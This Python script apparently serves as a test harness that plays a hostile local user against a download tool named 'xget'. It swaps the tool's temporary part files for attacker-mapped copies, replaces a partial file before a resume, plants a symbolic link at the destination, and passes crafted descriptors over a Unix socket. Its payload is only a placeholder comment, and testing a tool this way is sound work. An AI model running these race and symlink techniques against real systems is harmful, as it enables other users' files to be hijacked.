#!/usr/bin/env python3
"""Another user of the machine, who can write to the directory that somebody fetches into.

    destination.py swap DIR NAME BYTES       puts files of its own in the place of temporary files of that size, until
                                             DIR/NAME exists or SIGTERM comes; they stay mapped, and are written to then
    destination.py plant DIR PART NAME       replaces DIR/PART by a copy that stays mapped, before a resume; likewise
    destination.py move DIR NAME TARGET      once a temporary file is in DIR: moves NAME aside, and puts a symbolic link
                                             to TARGET there
    destination.py connect SOCKET            what a resident says to this user
    destination.py offer SOCKET              offers descriptors that are not open for reading

The first three print "ready" once they have begun. `swap` and `plant` print, for each file of theirs, its owner and
mode in the end.
"""

import mmap
import os
import signal
import socket
import sys
import time

NOBODY = 65534
PART = ".xget-part-"
PAYLOAD = b"#!/bin/sh\n# code of the attacker\n"
LOOK_EVERY = 0.002
MOST_SECONDS = 100


def become_nobody():
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)


class Mine:
    """A file of the attacker, open and mapped for writing."""

    def __init__(self, path, content):
        self.fd = os.open(path, os.O_RDWR | os.O_CREAT | os.O_EXCL, 0o600)
        os.ftruncate(self.fd, len(content))
        self.map = mmap.mmap(self.fd, len(content))
        self.map[:] = content

    def strike(self):
        """Writes code through the mapping, and says what the file has become."""
        self.map[: len(PAYLOAD)] = PAYLOAD
        self.map.flush()
        found = os.fstat(self.fd)
        print(f"uid {found.st_uid} mode {found.st_mode & 0o7777:o}", flush=True)


def looks():
    """Until SIGTERM or for so long."""
    over = []
    signal.signal(signal.SIGTERM, lambda *_: over.append(True))
    end = time.monotonic() + MOST_SECONDS
    while not over and time.monotonic() < end:
        yield
        time.sleep(LOOK_EVERY)


def swap(directory, name, size):
    os.chdir(directory)
    files = {}
    print("ready", flush=True)
    for _ in looks():
        if os.path.exists(name):
            break
        for part in [found for found in os.listdir(".") if found.startswith(PART)]:
            try:
                found = os.lstat(part)
                if found.st_size != int(size) or found.st_ino in files:
                    continue
                mine = Mine("mine", os.urandom(16) + bytes(int(size) - 16))
                os.rename("mine", part)
            except FileNotFoundError:
                continue
            files[os.fstat(mine.fd).st_ino] = mine
            print("swapped", flush=True)
    for mine in files.values():
        mine.strike()


def plant(directory, part, name):
    os.chdir(directory)
    # What a fetch of this user's own has brought, say: the beginning is right.
    with open(part + ".copy", "rb") as copy:
        mine = Mine("mine", copy.read())
    os.rename("mine", part)
    print("ready", flush=True)
    for _ in looks():
        if os.path.exists(name):
            break
    mine.strike()


def move(directory, name, target):
    print("ready", flush=True)
    for _ in looks():
        try:
            if any(found.startswith(PART) for found in os.listdir(directory)):
                os.rename(name, name + ".aside")
                os.symlink(target, name)
                print("moved", flush=True)
                return
        except (FileNotFoundError, PermissionError):
            continue


def connect(path):
    peer = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    peer.settimeout(20)
    peer.connect(path)
    try:
        got, fds, _, _ = socket.recv_fds(peer, 1 << 16, 8)
    except ConnectionResetError:
        got, fds = b"", []
    print(f"{len(got)} bytes, {len(fds)} descriptors")


def offer(path):
    server = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    server.bind(path)
    server.listen(1)
    server.settimeout(MOST_SECONDS)
    print("ready", flush=True)
    peer, _ = server.accept()
    listener = socket.create_server(("127.0.0.1", 0))
    named = os.open("/root", os.O_PATH | os.O_DIRECTORY)
    message = b"\0".join([b"xget hand-over 1", b"0", b"0" * 64, b"", b"-n", b"head", b".", b"/root"])
    fds = [listener.fileno(), named, named, named]
    socket.send_fds(peer, [message], fds)
    peer.settimeout(20)
    print("answered" if peer.recv(100) else "refused", flush=True)


def main():
    actions = {"swap": swap, "plant": plant, "move": move, "connect": connect, "offer": offer}
    action, arguments = sys.argv[1], sys.argv[2:]
    if action != "offer":
        become_nobody()
    actions[action](*arguments)


main()
